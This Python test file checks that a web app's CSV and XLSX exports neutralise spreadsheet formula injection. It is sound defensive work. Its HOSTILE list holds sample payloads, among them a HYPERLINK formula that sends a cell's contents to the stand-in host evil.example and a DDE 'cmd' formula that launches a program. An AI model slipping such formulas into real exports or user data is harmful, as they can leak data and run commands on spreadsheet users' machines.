"""Downloads never hand a spreadsheet a formula someone typed: CSV cells that would start one get a
leading quote (in csv_download, so every CSV export has it), XLSX cells hold text as text."""

import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import Workbook, load_workbook

from academy.core.csvsafe import CsvLimits, neutralise, read_rows, text_not_formulas
from academy.evidence import services
from academy.evidence.models import EvidenceType
from tests import factories

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1"]


def csv_cells(response) -> list[list[str]]:
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))


def test_each_hostile_cell_is_neutralised_and_plain_numbers_are_not():
    assert [neutralise(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert [neutralise(value) for value in ("-3", "+44", "-0.25", "12%", "Ash", "", 7, None)] == [
        "-3",
        "+44",
        "-0.25",
        "12%",
        "Ash",
        "",
        7,
        None,
    ]


def test_the_cohort_export_quotes_names_and_teams_that_would_run_as_formulas(client, login, coordinator, db):
    cohort = factories.make_cohort("Sept 2026", date(2026, 9, 7))
    user = factories.make_user(("nqsw",), name=HOSTILE[0] + " Example")
    factories.make_participant(cohort, user, team=HOSTILE[1])
    login(coordinator)
    header, row = csv_cells(client.get(f"/cohorts/{cohort.id}?format=csv"))
    values = dict(zip(header, row, strict=True))
    assert values["given_name"] == "'" + HOSTILE[0].partition(" ")[0]
    assert values["team"] == "'" + HOSTILE[1]
    header, row = csv_cells(client.get(f"/cohorts/{cohort.id}?format=figures"))
    assert dict(zip(header, row, strict=True))["team"] == "'" + HOSTILE[1]


def test_the_learning_export_quotes_what_the_nqsw_typed(client, login, db):
    participant = factories.make_participant(start=date(2025, 9, 1), today=date(2025, 9, 1))
    services.create_evidence(
        participant,
        by=participant.user,
        type=EvidenceType.LEARNING,
        title=HOSTILE[2],
        activity_date=date(2025, 10, 1),
        narrative=HOSTILE[3],
        hours=Decimal("2"),
    )
    login(participant.user)
    _, row = csv_cells(client.get(f"/participants/{participant.id}/learning.csv"))
    assert row[1] == "'" + HOSTILE[2]
    assert row[4] == "'" + HOSTILE[3]


def test_an_exported_cell_reads_back_as_it_was_typed():
    exported = [neutralise(value) for value in HOSTILE]
    text = "".join(f'"{cell.replace(chr(34), chr(34) * 2)}"\n' for cell in exported)
    assert [row[0] for row in read_rows(text, CsvLimits())] == HOSTILE


def test_xlsx_cells_that_look_like_formulas_are_stored_as_text():
    book = Workbook()
    sheet = book.active
    sheet.append([HOSTILE[0], HOSTILE[1], 3])
    out = io.BytesIO()
    text_not_formulas(book).save(out)
    cells = load_workbook(io.BytesIO(out.getvalue())).active[1]
    assert [(cell.value, cell.data_type) for cell in cells] == [(HOSTILE[0], "s"), (HOSTILE[1], "s"), (3, "n")]
